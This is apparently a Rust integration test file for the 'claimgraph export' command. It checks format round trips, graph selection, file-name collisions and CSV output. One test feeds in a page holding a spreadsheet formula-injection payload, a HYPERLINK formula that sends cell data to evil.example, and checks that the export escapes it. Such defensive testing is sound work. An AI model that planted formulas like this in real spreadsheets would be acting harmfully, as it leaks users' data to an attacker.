//! `claimgraph export`: every format, one graph or all, and round trips.

use crate::util::{TestDir, all_quads, stdout_of};
use predicates::prelude::*;

#[test]
fn nquads_export_loads_back_into_the_same_quads() {
    let t = TestDir::new();
    t.load(&["ontology", "sources", "tests/data/trail"]);
    let dump = t.path("all.nq");
    t.cmd()
        .arg("export")
        .arg("--output")
        .arg(&dump)
        .assert()
        .success();
    let other = TestDir::new();
    other.cmd().arg("load").arg(&dump).assert().success();
    assert_eq!(all_quads(&t.data()), all_quads(&other.data()));
}

#[test]
fn trig_and_jsonld_exports_load_back_too() {
    let t = TestDir::new();
    t.load(&["sources"]);
    for (format, ext) in [("trig", "trig"), ("jsonld", "jsonld")] {
        let dump = t.path(&format!("all.{ext}"));
        t.cmd()
            .args(["export", "--format", format])
            .arg("--output")
            .arg(&dump)
            .assert()
            .success();
        let other = TestDir::new();
        other.cmd().arg("load").arg(&dump).assert().success();
        assert_eq!(all_quads(&t.data()), all_quads(&other.data()), "{format}");
    }
}

#[test]
fn one_graph_as_turtle() {
    let t = TestDir::new();
    t.load(&["sources"]);
    let out = t
        .cmd()
        .args([
            "export",
            "--format",
            "turtle",
            "--graph",
            "https://w3id.org/claimgraph/graph/annotations/micro-drama-op-ed",
        ])
        .output()
        .unwrap();
    assert!(out.status.success());
    let ttl = stdout_of(&out);
    assert!(ttl.contains("@prefix cg:"), "prefixes are declared");
    assert!(ttl.contains("cg:Attribution"));
    assert!(
        !ttl.contains("rdfs:comment"),
        "only the source's graph, not the ontology"
    );
}

#[test]
fn single_graph_formats_need_a_graph_and_the_graph_must_exist() {
    let t = TestDir::new();
    t.load(&["sources"]);
    t.cmd()
        .args(["export", "--format", "turtle"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("give --graph"));
    t.cmd()
        .args([
            "export",
            "--format",
            "turtle",
            "--graph",
            "https://example.com/none",
        ])
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "no graph <https://example.com/none>",
        ));
}

/// The quads of one graph, as N-Quads lines, sorted.
fn graph_lines(data: &std::path::Path, graph: &str) -> Vec<String> {
    all_quads(data)
        .into_iter()
        .filter(|q| q.ends_with(&format!("<{graph}> .")))
        .collect()
}

#[test]
fn two_graphs_that_give_one_file_name_are_both_exported() {
    // A researcher's marks exported, the files loaded back beside them,
    // then one more mark: the researcher's graph and the loaded file's
    // graph both give "li-wei-<hash>.toml", and neither may overwrite the
    // other.
    let t = TestDir::new();
    t.load(&["ontology", "tests/data/trail"]);
    let source = "https://example.com/fixture/state-council-2035";
    let mark = |quote: &str| {
        t.cmd()
            .args(["annotate", source, "--author", "Li Wei", "--quote", quote])
            .args(["--claimant", "国务院"])
            .assert()
            .success();
    };
    mark("建成文化强国");
    let first = t.path("first");
    t.cmd()
        .args(["export", "--format", "toml", "--output"])
        .arg(&first)
        .assert()
        .success();
    t.cmd().arg("load").arg(&first).assert().success();
    mark("支持微短剧出海");
    let second = t.path("second");
    t.cmd()
        .args(["export", "--format", "toml", "--output"])
        .arg(&second)
        .assert()
        .success();
    let mut li_wei: Vec<String> = std::fs::read_dir(&second)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with("li-wei-"))
        .collect();
    li_wei.sort();
    assert_eq!(li_wei.len(), 2, "{li_wei:?}");
    let quotes: Vec<String> = li_wei
        .iter()
        .map(|n| std::fs::read_to_string(second.join(n)).unwrap())
        .collect();
    // The newest mark is in the researcher's own file, the first in both.
    assert!(
        quotes
            .iter()
            .any(|q| q.contains("quote = \"支持微短剧出海\"")),
        "{quotes:?}"
    );
    assert!(
        quotes
            .iter()
            .all(|q| q.contains("quote = \"建成文化强国\"")),
        "{quotes:?}"
    );
    // And the two files load together into a fresh store.
    let other = TestDir::new();
    other.cmd().arg("load").arg(&second).assert().success();
}

#[test]
fn annotated_sources_round_trip_through_toml() {
    let graph = "https://w3id.org/claimgraph/graph/annotations/micro-drama-op-ed";
    let t = TestDir::new();
    t.load(&["ontology", "sources", "tests/data/trail"]);
    let out = t.path("out");
    t.cmd()
        .args(["export", "--format", "toml", "--output"])
        .arg(&out)
        .assert()
        .success()
        .stderr(predicate::str::contains("micro-drama-op-ed.toml"));
    let mut names: Vec<String> = std::fs::read_dir(&out)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(
        names,
        [
            "fixture-reuters-recap.toml",
            "fixture-state-council-2035.toml",
            "micro-drama-op-ed.toml",
            "texts"
        ]
    );
    // Loaded into a fresh data directory: the same quads in every
    // annotation graph.
    let other = TestDir::new();
    other.cmd().arg("load").arg(&out).assert().success();
    for id in [
        "micro-drama-op-ed",
        "fixture-reuters-recap",
        "fixture-state-council-2035",
    ] {
        let g = format!("https://w3id.org/claimgraph/graph/annotations/{id}");
        let before = graph_lines(&t.data(), &g);
        assert!(!before.is_empty(), "{id}");
        assert_eq!(before, graph_lines(&other.data(), &g), "{id}");
    }
    // And exported again: the same files, byte for byte.
    let again = other.path("again");
    other
        .cmd()
        .args(["export", "--format", "toml", "--output"])
        .arg(&again)
        .assert()
        .success();
    for name in [
        "micro-drama-op-ed.toml",
        "texts/micro-drama-op-ed.txt",
        "fixture-reuters-recap.toml",
    ] {
        assert_eq!(
            std::fs::read(out.join(name)).unwrap(),
            std::fs::read(again.join(name)).unwrap(),
            "{name}"
        );
    }
    // The op-ed's text file is the one in sources/, and its 16 claims are all there.
    assert_eq!(
        std::fs::read(out.join("texts/micro-drama-op-ed.txt")).unwrap(),
        std::fs::read(crate::util::repo().join("sources/texts/micro-drama-op-ed.txt")).unwrap()
    );
    let toml = std::fs::read_to_string(out.join("micro-drama-op-ed.toml")).unwrap();
    assert_eq!(toml.matches("[[claim]]").count(), 16);
    assert!(graph_lines(&t.data(), graph).len() > 400);
    // Without a directory to write to: an error.
    t.cmd()
        .args(["export", "--format", "toml"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("--output DIR"));
}

#[test]
fn the_spreadsheet_export_keeps_a_pages_words_from_running_as_formulas() {
    let t = TestDir::new();
    let page = t.titled_page(
        "injected.html",
        "Injected",
        "<p>Officials said =HYPERLINK(\"http://evil.example/?x=\"&amp;A1,\"click\") was the plan.</p>\
         <p>The ministry said exports to Brazil doubled in 2024.</p>",
    );
    t.cmd()
        .args(["ingest", "--quiet", "--url", "https://example.org/inj"])
        .arg(&page)
        .assert()
        .success();
    let out = t
        .cmd()
        .args(["export", "--format", "csv"])
        .output()
        .unwrap();
    assert!(out.status.success());
    assert!(
        out.stdout.starts_with("\u{feff}".as_bytes()),
        "a byte-order mark"
    );
    let mut reader = csv_rows(&out.stdout[3..]);
    let header = reader.remove(0);
    let claim = header.iter().position(|h| h == "claim").unwrap();
    let quote = header.iter().position(|h| h == "quote").unwrap();
    let formula = reader
        .iter()
        .find(|r| r[claim].contains("HYPERLINK"))
        .expect("the claim is exported");
    assert!(formula[claim].starts_with("'=HYPERLINK("), "{formula:?}");
    assert!(formula[quote].starts_with("'=HYPERLINK("), "{formula:?}");
    // Other cells are as stored.
    let plain = reader
        .iter()
        .find(|r| r[claim].contains("exports to Brazil"))
        .expect("the other claim is exported");
    assert_eq!(plain[claim], "exports to Brazil doubled in 2024.");
    // SPARQL results as CSV stay the standard format.
    let out = t
        .cmd()
        .args(["query", "--name", "claims-table", "--format", "csv"])
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&out.stdout).contains(",\"=HYPERLINK("));
}

/// The rows of a CSV text, each a list of cells (quotes undone).
fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = String::from_utf8_lossy(bytes);
    let mut rows = vec![Vec::new()];
    let (mut cell, mut quoted, mut chars) = (String::new(), false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                cell.push('"');
                chars.next();
            }
            ('"', _) => quoted = !quoted,
            (',', false) => rows.last_mut().unwrap().push(std::mem::take(&mut cell)),
            ('\r', false) => {}
            ('\n', false) => {
                rows.last_mut().unwrap().push(std::mem::take(&mut cell));
                rows.push(Vec::new());
            }
            _ => cell.push(c),
        }
    }
    rows.retain(|r| !r.is_empty());
    rows
}
